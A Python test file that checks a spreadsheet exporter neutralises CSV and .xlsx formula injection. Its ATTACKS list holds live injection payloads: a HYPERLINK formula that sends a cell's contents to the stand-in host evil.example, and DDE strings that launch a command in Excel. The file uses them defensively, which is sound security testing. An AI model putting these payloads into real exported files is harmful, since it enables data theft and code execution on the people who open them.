"""Spreadsheets and CSV files people open in Excel never run a cell as a formula (CSV injection, security issue
16.6): text cells that start like a formula are quoted in every CSV, and .xlsx cells are written as text."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from fangfan.core.xlsx import csv_cell, workbook, write_csv, write_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_cell_that_starts_like_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "HH0001", "2024-05-01", "-5", "-5.00", "12000", "a=b", "", "'=x"])
def test_other_text_is_kept(value):
    """A plain number written as text (a money column's ``-5.00``) runs nothing, and a quote would spoil its sum."""
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-5, Decimal("-5.00"), -1.5, None, True])
def test_numbers_are_not_text_and_are_kept(value):
    assert csv_cell(value) is value


def test_write_csv_neutralises_every_text_cell(tmp_path):
    path = tmp_path / "out.csv"
    count = write_csv(
        path, headers=["=头", "说明", "金额"], rows=[[text, text, Decimal("-5")] for text in ATTACKS]
    )
    assert count == len(ATTACKS)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=头", "说明", "金额"]
    for row, text in zip(rows[1:], ATTACKS, strict=True):
        assert row == ["'" + text, "'" + text, "-5"]


def test_xlsx_writes_formula_like_text_as_text():
    target = io.BytesIO()
    write_xlsx(
        target, sheet="表", headers=["说明"], rows=[[text] for text in ATTACKS] + [["http://evil.example/"]]
    )
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell
    assert "<hyperlinks>" not in sheet


def test_every_workbook_refuses_formulas_links_and_numbers_in_strings():
    book = workbook(io.BytesIO(), in_memory=True)
    try:
        assert book.strings_to_formulas is False
        assert book.strings_to_urls is False
        assert book.strings_to_numbers is False
        ws = book.add_worksheet()
        ws.write(0, 0, "=1+1")  # even ``write``, which guesses the type, keeps it a string
        ws.write(1, 0, "http://evil.example/")
    finally:
        book.close()
    with zipfile.ZipFile(book.filename) as zipped:
        sheet = zipped.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlinks>" not in sheet
